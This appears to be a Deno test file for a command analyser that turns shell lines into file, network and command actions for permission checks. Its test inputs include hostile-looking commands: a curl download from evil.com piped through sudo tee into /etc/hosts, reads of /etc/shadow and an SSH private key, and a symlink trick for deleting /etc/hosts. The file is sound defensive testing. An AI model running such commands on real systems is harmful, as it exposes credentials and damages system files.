import assert from "node:assert/strict";
import type { Action } from "../../src/security/action.ts";
import { commandActions } from "../../src/security/command/mod.ts";
import { FakeFsProbe } from "../../src/security/path/mod.ts";

const WS = "/work/ws";

function probe(): FakeFsProbe {
  return new FakeFsProbe({
    paths: ["/work/ws/src/a.ts", "/etc/shadow", "/etc/hosts", "/home/u/.ssh/id_rsa", "/tmp"],
    links: { "/work/ws/escape": "/etc", "/work/ws/notes": "/home/u" },
  });
}

function actions(line: string, options?: { home?: string }): Action[] {
  const r = commandActions(line, WS, probe(), options);
  assert.ok(r.ok, r.ok ? "" : r.reason);
  return r.actions;
}

Deno.test("commandActions() gives one command action with every executable, then file and network actions", () => {
  const line = "git status && curl -o out https://evil.com/x | sudo tee /etc/hosts";
  assert.deepEqual(actions(line), [
    { kind: "command", command: line, cwd: WS, executables: ["git", "curl", "sudo", "tee"] },
    { kind: "file_write", path: "/work/ws/out" },
    { kind: "file_write", path: "/etc/hosts" },
    { kind: "network", host: "evil.com", port: 443, url: "https://evil.com/x" },
  ]);
});

Deno.test("commandActions() resolves symlinks, so a link in the workspace cannot hide /etc", () => {
  const got = actions("cat escape/shadow; rm escape/hosts; cat escape/../x");
  assert.deepEqual(got.filter((a) => a.kind !== "command"), [
    { kind: "file_read", path: "/etc/shadow" },
    { kind: "file_read", path: "/x" },
    { kind: "file_delete", path: "/etc/hosts" },
  ]);
});

Deno.test("commandActions() turns an unparseable line into one command action that must be asked about", () => {
  const r = commandActions("echo 'unclosed", WS, probe());
  assert.ok(r.ok);
  assert.deepEqual(r.actions, [{
    kind: "command",
    command: "echo 'unclosed",
    cwd: WS,
    executables: ["<unparseable>"],
    unparseable: true,
  }]);
  assert.ok(!r.analysis.ok && r.analysis.position === 5);
});

Deno.test("commandActions() flags inline evaluation and unknown paths on the command action", () => {
  const [cmd] = actions("python3 -c 'print(1)'");
  assert.equal(cmd?.kind === "command" && cmd.inlineEval, true);
  const [glob] = actions("rm -rf /tmp/$X");
  assert.equal(glob?.kind === "command" && glob.unknownPaths, true);
  const [plain] = actions("ls src");
  assert.ok(
    plain?.kind === "command" && plain.inlineEval === undefined && plain.unknownPaths === undefined,
  );
});

Deno.test("commandActions() fails on ~ paths unless a home folder is given", () => {
  const r = commandActions("cat ~/.ssh/id_rsa", WS, probe());
  assert.ok(!r.ok && /home folder/.test(r.reason));
  assert.deepEqual(actions("cat ~/.ssh/id_rsa", { home: "/home/u" })[1], {
    kind: "file_read",
    path: "/home/u/.ssh/id_rsa",
  });
  const other = commandActions("cat ~root/x", WS, probe(), { home: "/home/u" });
  assert.ok(!other.ok);
  // A folder literally named "~" in the workspace is not the home folder.
  assert.deepEqual(actions("cat './~/x'")[1], { kind: "file_read", path: "/work/ws/~/x" });
});

Deno.test("commandActions() fails when a path cannot be resolved", () => {
  const p = probe().deny("/etc");
  const r = commandActions("cat /etc/shadow", WS, p);
  assert.ok(!r.ok && /permission denied/.test(r.reason));
});

Deno.test("commandActions() lists each executable and each resolved path once", () => {
  const got = actions("cat src/a.ts; cat ./src/a.ts; cat src/../src/a.ts; ls; ls");
  assert.deepEqual(got[0], {
    kind: "command",
    command: "cat src/a.ts; cat ./src/a.ts; cat src/../src/a.ts; ls; ls",
    cwd: WS,
    executables: ["cat", "ls"],
  });
  assert.deepEqual(got.slice(1), [
    { kind: "file_read", path: "/work/ws/src/a.ts" },
    { kind: "file_read", path: "/work/ws" },
  ]);
});

Deno.test("commandActions() reports placeholder hosts for destinations it cannot pin down", () => {
  const got = actions("git push && curl $U");
  assert.deepEqual(got.filter((a) => a.kind === "network"), [
    { kind: "network", host: "<git-remote>", port: 0 },
    { kind: "network", host: "<dynamic>", port: 0, url: "$U" },
  ]);
});
